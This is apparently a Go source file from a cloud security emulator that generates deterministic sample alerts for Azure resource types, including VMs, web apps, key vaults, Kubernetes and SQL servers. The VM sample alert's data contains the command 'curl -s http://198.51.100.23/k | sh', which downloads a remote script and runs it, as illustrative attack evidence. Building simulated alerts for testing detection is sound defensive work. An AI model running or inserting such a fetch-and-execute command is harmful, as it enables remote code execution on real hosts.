package security

import (
	"encoding/json"
	"strings"
	"time"

	"github.com/google/uuid"

	"sluice/internal/armid"
)

// SimulationBundles are the alert simulation bundles of the REST API
// (AlertSimulatorBundlesRequestProperties.bundles).
var SimulationBundles = []string{"AppServices", "CosmosDbs", "DNS", "KeyVaults", "KubernetesService",
	"ResourceManager", "SqlServers", "StorageAccounts", "VirtualMachines"}

// CanonicalBundle returns the REST spelling of a bundle name
// (case-insensitive; "Containers" is accepted for KubernetesService).
func CanonicalBundle(b string) (string, bool) {
	if strings.EqualFold(b, "Containers") {
		return "KubernetesService", true
	}
	return canonical(b, SimulationBundles)
}

// simTemplate describes the sample alert of one bundle.
type simTemplate struct {
	resourceType  string // namespace/type of the alerted resource; "" = the subscription
	sampleName    string
	alertType     string
	displayName   string
	description   string
	severity      string
	intent        string
	component     string
	remediation   []string
	techniques    []string
	extended      [][2]string
	entities      func(resourceID, name string) []Object
	extendedLinks []ExtendedLink
}

var simNamespace = uuid.MustParse("0b6f2a38-7d55-4c55-8f0e-6ad2c1b5f3a1")

func obj(kv ...any) Object {
	o := make(Object, 0, len(kv)/2)
	for i := 0; i+1 < len(kv); i += 2 {
		o = append(o, Member{kv[i].(string), kv[i+1]})
	}
	return o
}

func num(s string) json.Number { return json.Number(s) }

func ipEntity(addr, country, city string) Object {
	return obj("address", addr, "location", obj("countryCode", country, "countryName", countryName(country), "city", city, "asn", num("64500")), "type", "ip")
}

func countryName(code string) string {
	switch code {
	case "NL":
		return "Netherlands"
	case "BR":
		return "Brazil"
	case "RO":
		return "Romania"
	}
	return "United States"
}

func azureResource(id, typeName, name string) Object {
	return obj("resourceId", id, "resourceType", typeName, "resourceName", name, "type", "azure-resource")
}

var simTemplates = map[string]simTemplate{
	"VirtualMachines": {
		resourceType: "Microsoft.Compute/virtualMachines", sampleName: "Sample-VM",
		alertType:   "VM_SuspiciousDownloadExecution",
		displayName: "[SAMPLE ALERT] Suspicious download followed by execution detected",
		description: "THIS IS A SAMPLE ALERT: A process on the machine downloaded a file from an external address and ran it straight away. " +
			"Attackers use this pattern to bring tools onto a compromised host.",
		severity: "High", intent: "Execution", component: "Servers",
		remediation: []string{
			"Review the process tree and the downloaded file listed in the alert.",
			"If the activity is not legitimate, isolate the machine and reset the credentials of the account that ran the process.",
		},
		techniques: []string{"T1105", "T1059"},
		extended: [][2]string{{"Suspicious process", "/tmp/.cache/kworkerd"}, {"Suspicious command line", "curl -s http://198.51.100.23/k | sh"},
			{"Parent process", "/bin/bash"}, {"User name", "azureuser"}},
		entities: func(id, name string) []Object {
			host := obj("$id", "h1", "hostName", name, "azureID", id, "osFamily", "Linux", "type", "host")
			acct := obj("$id", "a1", "name", "azureuser", "host", obj("$ref", "h1"), "type", "account")
			return []Object{host, acct,
				obj("processId", "0x3f1a", "commandLine", "curl -s http://198.51.100.23/k | sh", "host", obj("$ref", "h1"), "account", obj("$ref", "a1"), "type", "process"),
				ipEntity("198.51.100.23", "NL", "Amsterdam")}
		},
	},
	"AppServices": {
		resourceType: "Microsoft.Web/sites", sampleName: "sample-webapp",
		alertType:   "AppServices_WebShellActivity",
		displayName: "[SAMPLE ALERT] Web shell activity detected",
		description: "THIS IS A SAMPLE ALERT: Requests to the web app match the pattern of a web shell: a script that lets an attacker run commands on the server through HTTP.",
		severity:    "High", intent: "Persistence", component: "AppServices",
		remediation: []string{
			"Look for recently added or modified script files in the app's content.",
			"Remove unknown files, redeploy the app from a trusted source and rotate its secrets.",
		},
		techniques: []string{"T1505.003"},
		extended:   [][2]string{{"Request URI", "/uploads/img_5512.php"}, {"Client IP address", "203.0.113.77"}, {"Sample HTTP user agent", "python-requests/2.31"}},
		entities: func(id, name string) []Object {
			return []Object{azureResource(id, "App Service", name), ipEntity("203.0.113.77", "BR", "Sao Paulo")}
		},
	},
	"DNS": {
		resourceType: "Microsoft.Compute/virtualMachines", sampleName: "Sample-VM",
		alertType:   "AzureDNS_ThreatIntelSuspectDomain",
		displayName: "[SAMPLE ALERT] Communication with suspicious domain identified by threat intelligence",
		description: "THIS IS A SAMPLE ALERT: A resource resolved a domain that threat intelligence associates with malicious infrastructure.",
		severity:    "Medium", intent: "InitialAccess", component: "DNS",
		remediation: []string{"Find the process that issued the DNS query and check whether the resource is compromised."},
		techniques:  []string{"T1071.004"},
		extended:    [][2]string{{"Domain name", "update-check.example-malicious.test"}, {"Threat type", "Command and control"}},
		entities: func(id, name string) []Object {
			return []Object{
				obj("domainName", "update-check.example-malicious.test", "ipAddresses", []any{ipEntity("198.51.100.140", "RO", "Bucharest")}, "type", "dns"),
				obj("hostName", name, "azureID", id, "type", "host"),
			}
		},
	},
	"KeyVaults": {
		resourceType: "Microsoft.KeyVault/vaults", sampleName: "sample-vault",
		alertType:   "KV_SuspiciousIPAccess",
		displayName: "[SAMPLE ALERT] Access from a suspicious IP address to a key vault",
		description: "THIS IS A SAMPLE ALERT: The key vault was accessed from an address that threat intelligence has flagged as suspicious.",
		severity:    "Medium", intent: "CredentialAccess", component: "KeyVaults",
		remediation: []string{
			"Check whether the caller is expected to access the vault from this address.",
			"If not, revoke the caller's access and rotate the secrets it read.",
		},
		techniques: []string{"T1555"},
		extended:   [][2]string{{"Client IP address", "203.0.113.9"}, {"Operation", "SecretGet"}, {"Object names", "db-password"}},
		entities: func(id, name string) []Object {
			return []Object{azureResource(id, "Key Vault", name), ipEntity("203.0.113.9", "US", "Dallas"),
				obj("name", "sample-app", "aadUserId", "00000000-0000-0000-0000-00000000a001", "type", "account")}
		},
	},
	"KubernetesService": {
		resourceType: "Microsoft.ContainerService/managedClusters", sampleName: "sample-aks",
		alertType:   "K8S_PrivilegedContainer",
		displayName: "[SAMPLE ALERT] Privileged container detected",
		description: "THIS IS A SAMPLE ALERT: Kubernetes audit log analysis detected a new privileged container. A privileged container has access to the node's resources and breaks the isolation between containers.",
		severity:    "Low", intent: "PrivilegeEscalation", component: "Containers",
		remediation: []string{
			"Review the pod that runs the privileged container and make sure it needs that level of access.",
			"If it does not, remove 'privileged: true' from its specification.",
		},
		techniques: []string{"T1611"},
		extended:   [][2]string{{"Namespace", "default"}, {"Pod name", "sample-pod"}, {"Container name", "sample-container"}, {"Image", "sample-image:v1"}},
		entities: func(id, name string) []Object {
			cluster := obj("$id", "c1", "cloudResource", azureResource(id, "Kubernetes Service", name), "type", "K8s-cluster")
			ns := obj("$id", "n1", "name", "default", "cluster", obj("$ref", "c1"), "type", "K8s-namespace")
			pod := obj("$id", "p1", "name", "sample-pod", "namespace", obj("$ref", "n1"), "type", "K8s-pod")
			return []Object{cluster, ns, pod,
				obj("name", "sample-container", "pod", obj("$ref", "p1"), "image", obj("imageId", "sample-image:v1", "type", "container-image"), "type", "container"),
				azureResource(id, "Kubernetes Service", name)}
		},
	},
	"StorageAccounts": {
		resourceType: "Microsoft.Storage/storageAccounts", sampleName: "samplestorage",
		alertType:   "Storage.Blob_AnonymousAccessAnomaly",
		displayName: "[SAMPLE ALERT] Unusual unauthenticated access to a storage container",
		description: "THIS IS A SAMPLE ALERT: A blob container that allows anonymous access was read in an unusual way, which may indicate data being collected by an outsider.",
		severity:    "Medium", intent: "Collection", component: "Storage",
		remediation: []string{"Disable anonymous access to the container unless it is intended to be public.", "Review what was read using the storage logs."},
		techniques:  []string{"T1530"},
		extended:    [][2]string{{"Container", "backups"}, {"Client IP address", "198.51.100.61"}, {"Operations types", "GetBlob, ListBlobs"}},
		entities: func(id, name string) []Object {
			return []Object{azureResource(id, "Storage Account", name),
				obj("name", "backups", "storageResource", azureResource(id, "Storage Account", name), "type", "blob-container"),
				ipEntity("198.51.100.61", "US", "Seattle")}
		},
	},
	"SqlServers": {
		resourceType: "Microsoft.Sql/servers", sampleName: "sample-sql",
		alertType:   "SQL.DB_BruteForce",
		displayName: "[SAMPLE ALERT] Suspected brute-force attack on a SQL server",
		description: "THIS IS A SAMPLE ALERT: A large number of failed sign-ins with different user names came from one address within a short time.",
		severity:    "High", intent: "PreAttack", component: "SqlServers",
		remediation: []string{"Block the source address in the server firewall.", "Make sure every SQL login uses a strong password, or switch to Entra authentication."},
		techniques:  []string{"T1110"},
		extended:    [][2]string{{"Client IP address", "203.0.113.200"}, {"Failed attempts", "312"}, {"Application", "Sample-app"}},
		entities: func(id, name string) []Object {
			return []Object{azureResource(id, "SQL Server", name), ipEntity("203.0.113.200", "RO", "Cluj-Napoca"),
				obj("name", "sa", "type", "account")}
		},
	},
	"ResourceManager": {
		resourceType: "", sampleName: "",
		alertType:   "ARM_AnomalousServiceOperation.CredentialAccess",
		displayName: "[SAMPLE ALERT] Suspicious invocation of a high-risk 'Credential Access' operation detected",
		description: "THIS IS A SAMPLE ALERT: An identity called an operation that can expose credentials (such as listing storage account keys) in a way that is unusual for it.",
		severity:    "Medium", intent: "CredentialAccess", component: "ResourceManager",
		remediation: []string{"Confirm with the owner of the identity that the operation was intended.", "If not, rotate the exposed keys and review the identity's role assignments."},
		techniques:  []string{"T1552"},
		extended:    [][2]string{{"Operation", "Microsoft.Storage/storageAccounts/listKeys/action"}, {"Client IP address", "198.51.100.5"}, {"Client principal name", "sample-user@contoso.test"}},
		entities: func(id, name string) []Object {
			return []Object{azureResource(id, "Subscription", name), obj("name", "sample-user", "upnSuffix", "contoso.test", "type", "account"),
				ipEntity("198.51.100.5", "US", "Chicago")}
		},
		extendedLinks: []ExtendedLink{{Href: "https://attack.mitre.org/techniques/T1552/", Label: "MITRE ATT&CK T1552", Type: "webLink"}},
	},
	"CosmosDbs": {
		resourceType: "Microsoft.DocumentDB/databaseAccounts", sampleName: "sample-cosmos",
		alertType:   "CosmosDB_SuspiciousIp",
		displayName: "[SAMPLE ALERT] Access from a suspicious IP to an Azure Cosmos DB account",
		description: "THIS IS A SAMPLE ALERT: The account was accessed successfully from an address that threat intelligence associates with malicious activity.",
		severity:    "Medium", intent: "InitialAccess", component: "CosmosDbs",
		remediation: []string{"Restrict the account's firewall to known networks.", "Rotate the account keys if the access was not expected."},
		techniques:  []string{"T1190"},
		extended:    [][2]string{{"Client IP address", "203.0.113.55"}, {"Database", "orders"}},
		entities: func(id, name string) []Object {
			return []Object{azureResource(id, "Azure Cosmos DB", name), ipEntity("203.0.113.55", "NL", "Rotterdam")}
		},
	},
}

// SimulateAlerts returns one realistic sample alert per known bundle (REST
// names, case-insensitive; unknown bundles are skipped), as the REST
// "simulate" action produces. Each alert is placed on the first of
// resources whose type fits the bundle, or on a synthetic resource in
// resource group Sample-RG when none does. The alerts are complete
// (CompleteAlert) and deterministic for given inputs.
func SimulateAlerts(subscriptionID, location string, bundles []string, now time.Time, resources []string) []*Alert {
	var out []*Alert
	seen := map[string]bool{}
	for _, b := range bundles {
		bundle, ok := CanonicalBundle(b)
		if !ok || seen[bundle] {
			continue
		}
		seen[bundle] = true
		t := simTemplates[bundle]
		rid, name := pickResource(subscriptionID, t, resources)
		p := AlertProperties{
			AlertType:            t.alertType,
			ProductComponentName: t.component,
			AlertDisplayName:     t.displayName,
			Description:          t.description,
			Severity:             t.severity,
			Intent:               t.intent,
			ResourceIdentifiers:  []ResourceIdentifier{{Type: "AzureResource", AzureResourceID: rid}},
			RemediationSteps:     append([]string{}, t.remediation...),
			Status:               "Active",
			Entities:             t.entities(rid, name),
			ExtendedLinks:        append([]ExtendedLink(nil), t.extendedLinks...),
			CompromisedEntity:    name,
			Techniques:           append([]string{}, t.techniques...),
			StartTimeUTC:         NewTime(now.Add(-2 * time.Minute)),
			EndTimeUTC:           NewTime(now.Add(-2 * time.Minute)),
		}
		for _, kv := range t.extended {
			p.ExtendedProperties = append(p.ExtendedProperties, StringPair{kv[0], kv[1]})
		}
		seed := uuid.NewSHA1(simNamespace, []byte(strings.ToLower(subscriptionID)+"|"+bundle+"|"+rid+"|"+FormatTime(now)))
		p.SystemAlertID = SystemAlertIDFor(now, seed)
		a := &Alert{Properties: p}
		CompleteAlert(a, subscriptionID, location, now)
		out = append(out, a)
	}
	return out
}

func pickResource(subscriptionID string, t simTemplate, resources []string) (id, name string) {
	for _, r := range resources {
		pid, err := armid.Parse(r)
		if err != nil {
			continue
		}
		if t.resourceType == "" {
			if !pid.IsResource() && pid.ResourceGroup == "" {
				return r, pid.Subscription
			}
			continue
		}
		if pid.IsResource() && strings.EqualFold(pid.Namespace+"/"+strings.Join(pid.Types, "/"), t.resourceType) {
			return r, pid.Names[len(pid.Names)-1]
		}
	}
	if t.resourceType == "" {
		return "/subscriptions/" + subscriptionID, subscriptionID
	}
	return "/subscriptions/" + subscriptionID + "/resourceGroups/Sample-RG/providers/" + t.resourceType + "/" + t.sampleName, t.sampleName
}
